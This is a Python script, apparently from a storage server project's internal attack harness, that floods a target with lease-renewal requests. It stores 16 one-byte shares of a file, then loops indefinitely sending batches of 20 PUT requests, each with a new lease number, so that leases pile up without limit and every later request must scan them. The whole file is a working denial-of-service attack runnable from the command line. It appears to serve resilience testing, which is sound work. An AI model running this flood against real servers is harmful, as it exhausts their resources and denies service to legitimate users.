"""Leases without number on a few shares, which every request for them has to look through."""

from __future__ import annotations

from misc.attack.insiders import lease, line_of, lines
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.wire import gbs_cbor_bodies, gbs_paths_headers

SHARES = 16
INDEX = b"many leases now."


def attack(target: Target) -> None:
    """Store 16 shares of one file, then lease them for one client after the other."""
    request = target.requests.request
    secret = {gbs_paths_headers.UPLOAD_SECRET: b"u" * 32}
    allocate = request(
        "POST",
        gbs_paths_headers.allocate_path(INDEX),
        *line_of({**lease(0), **secret}),
        body=gbs_cbor_bodies.pack_allocate(frozenset(range(SHARES)), 1),
    )
    writes = [
        request(
            "PATCH",
            gbs_paths_headers.share_path(INDEX, number),
            *line_of(secret),
            b"Content-Range: bytes 0-0/*",
            body=b"x",
        )
        for number in range(SHARES)
    ]
    with lines(target, 4) as line:
        line.send([allocate, *writes])
        for turn in again_and_again(target, 0.001):
            line.send(
                [
                    request("PUT", gbs_paths_headers.lease_path(INDEX), *line_of(lease(number)))
                    for number in range(turn * 20, turn * 20 + 20)
                ]
            )


if __name__ == "__main__":
    attack(from_command_line(__doc__))
